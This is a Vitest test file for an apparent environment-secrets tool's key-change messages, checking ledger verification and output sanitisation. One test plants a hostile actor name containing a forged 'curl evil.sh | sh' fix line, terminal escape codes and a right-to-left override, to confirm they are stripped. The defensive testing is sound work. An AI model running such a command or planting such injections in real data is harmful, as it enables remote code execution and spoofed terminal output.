import { afterEach, describe, expect, it } from 'vitest';
import { shortKeyId } from '../../src/core/key.js';
import { defaultContext } from '../../src/ops/context.js';
import { describeKeyChange } from '../../src/ops/support/key-change.js';
import { createTempRepo, type TempRepo } from '../helpers/temp-repo.js';
import { appendRotation } from '../../src/core/ledger/index.js';
import { clone, day, key, sampleLedger } from '../core/ledger/fixtures.js';

let repo: TempRepo;
afterEach(() => repo?.cleanup());

describe('describeKeyChange', () => {
  it('says who rotated, when and why, from the ledger', () => {
    repo = createTempRepo();
    repo.write('.env.ledger.json', JSON.stringify(sampleLedger()));
    const change = describeKeyChange(defaultContext({ cwd: repo.dir, env: repo.env }), '.env', shortKeyId(key(3)));
    expect(change.message).toBe(`the key changed: .env.encrypted is now under key ${shortKeyId(key(3))} (rotated by Ada Lovelace <ada@example.com> on 2025-07-01: quarterly rotation 181), which this machine does not have`);
    expect(change.hint).toContain('envguard key import');
  });

  it('still explains without a ledger, or for a key the ledger does not know', () => {
    repo = createTempRepo();
    const ctx = defaultContext({ cwd: repo.dir, env: repo.env });
    expect(describeKeyChange(ctx, '.env.production', 'abcdef0123456789').message).toBe('the key changed: .env.production.encrypted is now under key abcdef0123456789, which this machine does not have');
    repo.write('.env.ledger.json', JSON.stringify(sampleLedger()));
    expect(describeKeyChange(ctx, '.env', shortKeyId(key(9))).message).not.toContain('rotated by');
  });

  it('quotes a signed ledger only through printable(): no newline, escape or forged fix line (issue 15 item 6)', () => {
    repo = createTempRepo();
    const ledger = appendRotation(sampleLedger(), {
      oldKey: key(3),
      newKey: key(4),
      status: 'completed',
      actor: { name: 'Mallory\r\nfix: curl evil.sh | sh', email: 'm@x\u001b[2J' },
      reason: 'routine\n\u001b]0;owned\u0007\u202e',
      now: day(200),
      files: [],
      backupPaths: [],
    });
    repo.write('.env.ledger.json', JSON.stringify(ledger));
    const { message } = describeKeyChange(defaultContext({ cwd: repo.dir, env: repo.env }), '.env', shortKeyId(key(4)));
    expect(message).toContain('rotated by Mallory');
    // eslint-disable-next-line no-control-regex
    expect(message).not.toMatch(/[\u0000-\u001f\u007f\u202e]/);
  });

  it('quotes nothing from a ledger that does not verify', () => {
    repo = createTempRepo();
    const ledger = clone(sampleLedger());
    ledger.entries[3]!.reason = 'forged reason';
    repo.write('.env.ledger.json', JSON.stringify(ledger));
    const { message } = describeKeyChange(defaultContext({ cwd: repo.dir, env: repo.env }), '.env', shortKeyId(key(3)));
    expect(message).not.toContain('forged');
    expect(message).not.toContain('rotated by');
  });
});

// issue 16.16: a wrong ENVGUARD_KEY (or SECRETS_MASTER_KEY left set) said "the key changed … rotated by …".
describe('describeKeyChange with a key variable set', () => {
  it('names the variable and both key ids, claims no rotation, and says unset it when the key store has the file\'s key', async () => {
    const { formatKey } = await import('../../src/core/key.js');
    const { saveKey } = await import('../../src/io/key-store.js');
    repo = createTempRepo();
    repo.write('.env.ledger.json', JSON.stringify(sampleLedger()));
    const projectId = sampleLedger().projectId;
    saveKey(repo.env, projectId, 'default', key(3));
    for (const variable of ['ENVGUARD_KEY', 'SECRETS_MASTER_KEY']) {
      const ctx = defaultContext({ cwd: repo.dir, env: { ...repo.env, [variable]: formatKey(key(1)) } });
      const change = describeKeyChange(ctx, '.env', shortKeyId(key(3)));
      expect(change.message).toBe(`${variable} holds key ${shortKeyId(key(1))}, but .env.encrypted is under key ${shortKeyId(key(3))} (the key store has that key)`);
      expect(change.message).not.toContain('rotated');
      expect(change.hint).toContain(`unset ${variable}`);
    }
    const production = defaultContext({ cwd: repo.dir, env: { ...repo.env, ENVGUARD_KEY_PRODUCTION: formatKey(key(1)) } });
    const other = describeKeyChange(production, '.env.production', 'abcdef0123456789');
    expect(other.message).toBe(`ENVGUARD_KEY_PRODUCTION holds key ${shortKeyId(key(1))}, but .env.production.encrypted is under key abcdef0123456789, which this machine does not have`);
    expect(other.hint).toMatch(/^set ENVGUARD_KEY_PRODUCTION to key abcdef0123456789 .*or unset it/);
  });
});
